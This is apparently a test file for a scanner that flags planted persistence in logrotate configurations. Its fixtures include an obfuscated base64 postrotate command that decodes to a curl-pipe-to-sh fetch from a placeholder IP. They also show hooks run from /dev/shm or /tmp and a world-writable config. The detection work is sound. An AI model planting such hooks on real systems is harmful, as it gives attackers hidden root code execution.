import { expect, it } from 'vitest';
import { tellsOf } from '../../../test/plant-rows.ts';
import { logrotate, readRotation } from './check.ts';

tellsOf(logrotate, {
  rows: {
    'a script after the turn that decodes and runs': { files: { '/etc/logrotate.d/app': '/var/log/app.log {\n  daily\n  postrotate\n    echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUvYSB8IHNo | base64 -d | sh\n  endscript\n}\n' }, finds: ['intrusion high /etc/logrotate.d/app'] },
    'a script before it in an included file': { files: { '/etc/logrotate.conf': 'weekly\ninclude /opt/rotate.conf\n', '/opt/rotate.conf': '/var/log/x { prerotate\n /dev/shm/x\n endscript }\n' }, finds: ['intrusion high /opt/rotate.conf'] },
    'a packer of its own': { files: { '/etc/logrotate.d/pack': '/var/log/y {\n compresscmd /tmp/gz\n}\n' }, finds: ['intrusion high /etc/logrotate.d/pack'] },
    'settings that anybody may write': { files: { '/etc/logrotate.d/open': { text: '/var/log/z { daily }\n', mode: 0o646 } }, finds: ['weakness high /etc/logrotate.d/open'] },
  },
  ordinary: {
    '/etc/logrotate.conf': { text: 'weekly\ninclude /etc/logrotate.d\n', package: 'logrotate', config: true },
    '/etc/logrotate.d/nginx': '/var/log/nginx/*.log {\n  daily\n  sharedscripts\n  prerotate\n    if [ -d /etc/logrotate.d/httpd-prerotate ]; then run-parts /etc/logrotate.d/httpd-prerotate; fi\n  endscript\n  postrotate\n    [ -s /run/nginx.pid ] && kill -USR1 $(cat /run/nginx.pid)\n  endscript\n}\n',
  },
  reads: '/etc/logrotate.d/pack',
});

it('reads a script that never ends to the end', () => {
  expect(readRotation('a {\n postrotate\n one\n two')).toEqual({ scripts: [{ line: 3, text: ' one\n two' }], programs: [], includes: [] });
});
